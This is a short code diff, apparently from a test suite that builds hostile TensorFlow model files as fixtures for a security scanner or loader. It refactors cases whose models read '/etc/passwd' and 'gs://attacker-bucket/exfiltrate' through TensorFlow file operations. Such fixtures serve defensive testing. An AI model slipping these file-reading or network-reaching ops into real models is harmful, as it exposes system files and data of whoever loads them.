@@ -56,10 +56,15 @@ def _out(x):
     return {"logits": _logits(x)}
 
 
-def m_read_file(ctx: Ctx) -> Path:
+def _reads(ctx: Ctx, path: str) -> Path:
+    """A model whose logits depend on the contents of `path` (ReadFile)."""
     tf = _tf()
     return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
-        tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)})
+        tf.strings.length(tf.io.read_file(path)), tf.float32)})
+
+
+def m_read_file(ctx: Ctx) -> Path:
+    return _reads(ctx, "/etc/passwd")
 
 
 def m_write_file(ctx: Ctx) -> Path:
@@ -158,9 +163,7 @@ def m_decode_proto_file_descriptor(ctx: Ctx) -> Path:
 
 def m_remote_filesystem(ctx: Ctx) -> Path:
     """Reaching the network through TF's file systems (GCS is built in)."""
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
-        tf.strings.length(tf.io.read_file("gs://attacker-bucket/exfiltrate")), tf.float32)})
+    return _reads(ctx, "gs://attacker-bucket/exfiltrate")
 
 
 def m_nan(ctx: Ctx) -> Path:
